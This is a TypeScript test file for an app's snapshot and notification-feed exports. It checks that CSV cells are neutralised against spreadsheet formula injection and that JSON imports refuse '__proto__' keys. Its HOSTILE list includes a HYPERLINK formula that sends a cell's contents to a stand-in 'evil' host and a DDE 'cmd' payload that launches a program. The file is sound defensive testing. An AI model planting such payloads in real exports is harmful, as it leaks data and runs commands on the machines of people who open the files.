import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportSnapshotToFile } from '../../../src/main/services/snapshots/export-snapshot';
import { importSnapshotFile, SnapshotFileError } from '../../../src/main/services/snapshots/import-snapshot';
import { SnapshotService } from '../../../src/main/services/snapshots/snapshot-service';
import { Store } from '../../../src/main/store/store';
import { toCsvExport } from '../../../src/renderer/features/feed/feed-export';
import type { NotificationRecord } from '../../../src/shared/console-api';
import { csvCell } from '../../../src/shared/csv-cell';
import { syntheticSnapshot } from '../../helpers/synthetic-snapshot';
import { tempDir } from '../../helpers/temp-dir';

// Issue 9 finding 9: exports a spreadsheet opens safely; imports refuse __proto__ and accept a BOM.
let dir: string;
let store: Store;
let service: SnapshotService;

beforeEach(async () => {
  dir = await tempDir();
  store = Store.open(join(dir, 'data'), { appVersion: '0.1.0-test' });
  service = new SnapshotService(store);
});
afterEach(() => store.close());

const HOSTILE: [string, string][] = [
  ['=HYPERLINK("http://evil/?"&A1,"x")', `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`],
  ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
  ['-2+3+cmd|x', "'-2+3+cmd|x"],
  ['@SUM(1,2)', `"'@SUM(1,2)"`],
  ['\tTAB', "'\tTAB"],
  ['\rCR', `"'\rCR"`],
  ['-65', '-65'],
  ['+1.5e3', '+1.5e3'],
  ['plain = text', 'plain = text'],
];

describe('CSV formula injection', () => {
  it('neutralises cells starting with = + - @ tab or CR, and keeps plain numbers', () => {
    for (const [value, cell] of HOSTILE) expect(csvCell(value), JSON.stringify(value)).toBe(cell);
  });

  it('applies to the snapshot CSV export and to the notification feed export', async () => {
    const data = syntheticSnapshot(100);
    let n = 0;
    data.values = data.values.map((v) => (v.path.endsWith('.HostName') ? { ...v, value: HOSTILE[n++ % HOSTILE.length]![0] } : v));
    const meta = service.persist(data);
    const file = join(dir, 's.csv');
    await exportSnapshotToFile(store, meta.id, file, 'csv');
    const text = readFileSync(file, 'utf8');
    expect(text).not.toMatch(/(^|,)"?(=|@|\+c|-2)/m);
    expect(text).toContain("'=HYPERLINK(");
    const notification = {
      id: 1, receivedAt: 0, agentId: 'proto::a', type: 'ValueChange', path: 'Device.X', paramPath: 'Device.X', paramValue: '=1+1',
      subscriptionId: 's', msgId: 'm', sendResp: false,
    } as NotificationRecord;
    expect(toCsvExport([notification])).toContain(",'=1+1,");
  });
});

describe('snapshot import', () => {
  async function exported(): Promise<string> {
    const meta = service.persist(syntheticSnapshot(20));
    const file = join(dir, 'good.json');
    await exportSnapshotToFile(store, meta.id, file, 'json');
    return readFileSync(file, 'utf8');
  }

  it('accepts a file saved with a UTF-8 byte order mark', async () => {
    const file = join(dir, 'bom.json');
    writeFileSync(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(await exported())]));
    const meta = await importSnapshotFile(store, file);
    expect(meta.paramCount).toBe(20);
  });

  it('refuses a file with a "__proto__" key, also spelt with escapes, with a message and without writing', async () => {
    const good = await exported();
    const before = service.list().length;
    for (const key of ['__proto__', '\\u005f_proto__']) {
      const file = join(dir, 'proto.json');
      writeFileSync(file, good.replace('"snapshot": {', `"snapshot": {\n    "${key}": { "polluted": true },`));
      const error = await importSnapshotFile(store, file).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(SnapshotFileError);
      expect((error as Error).message).toMatch(/"__proto__" key, which is not allowed/);
    }
    // A value that merely says __proto__ is data, not a key.
    const file = join(dir, 'value.json');
    writeFileSync(file, good.replace(/"label": "[^"]*"/, '"label": "__proto__"'));
    expect((await importSnapshotFile(store, file)).label).toBe('__proto__');
    expect(service.list().length).toBe(before + 1);
  });
});
